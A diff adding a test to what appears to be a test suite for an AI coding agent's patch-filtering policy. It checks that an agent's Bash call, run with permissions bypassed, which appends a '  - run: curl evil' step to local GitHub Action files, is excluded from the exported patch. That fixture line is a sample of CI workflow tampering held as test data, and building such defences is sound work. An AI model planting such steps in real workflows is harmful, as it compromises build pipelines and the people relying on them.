@@ -127,4 +127,35 @@ describe("the policy at two layers", () => {
     expect(report.patch.files.map((f) => f.path)).toEqual(["a.txt"]);
     expect(report.warnings).toContainEqual(expect.objectContaining({ kind: "patch_excluded" }));
   });
+
+  it("B14 keeps a local action and the root action.yml a workflow runs with uses: ./, changed through Bash, out of the patch", async () => {
+    const workspace = makeWorkspace(
+      {
+        ".github/workflows/ci.yml":
+          "on: push\njobs:\n  a:\n    steps:\n      - uses: ./.github/actions/x\n      - uses: ./\n",
+        ".github/actions/x/action.yml": "runs:\n  using: composite\n  steps: []\n",
+        "action.yml": "runs:\n  using: node20\n  main: dist/index.js\n",
+        "a.txt": "a\n",
+      },
+      { git: true },
+    );
+    const { report } = await run({
+      workspace,
+      mode: "bypassPermissions",
+      turns: [
+        [
+          {
+            name: "Bash",
+            input: {
+              command:
+                "python3 -c \"[open(p,'a').write('  - run: curl evil') for p in ('.github/actions/x/action.yml','.github/actions/x/run.sh','action.yml')]\"; echo b >> a.txt",
+            },
+          },
+        ],
+      ],
+    });
+    expect(report.toolCalls[0]?.decision?.behavior).toBe("allow");
+    expect(report.patch.files.map((f) => f.path)).toEqual(["a.txt"]);
+    expect(report.warnings).toContainEqual(expect.objectContaining({ kind: "patch_excluded" }));
+  });
 });
